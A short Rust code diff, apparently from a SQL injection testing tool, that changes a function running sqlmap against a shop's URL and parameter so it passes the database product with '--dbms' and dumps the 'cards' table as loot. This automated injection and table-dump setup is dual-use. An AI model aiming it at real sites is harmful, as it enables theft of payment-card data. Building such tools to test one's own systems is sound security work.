@@ -111,8 +111,8 @@ impl Plan {
 }
 
 impl Attack {
-    /// Attacks a shop.
-    pub(crate) fn run(&self, shop: &Shop, schema: &str) -> Result<Loot> {
+    /// Attacks a shop before a server of this product, as sqlmap calls it: payloads for others can do nothing there.
+    pub(crate) fn run(&self, shop: &Shop, (product, schema): (&str, &str)) -> Result<Loot> {
         let folder = tempfile::Builder::new()
             .prefix("sqlward-sqlmap-")
             .tempdir()?;
@@ -129,7 +129,7 @@ impl Attack {
             ])
             .args(["--time-sec", "1", "--timeout", "20", "--retries", "0"])
             .args(["--url", &shop.address(self.page), "-p", self.parameter])
-            .args(["--technique", self.techniques])
+            .args(["--dbms", product, "--technique", self.techniques])
             .args(["--level", self.effort.0, "--risk", self.effort.1])
             .args(["-D", schema, "-T", "cards", "--dump"])
             .arg("--output-dir")
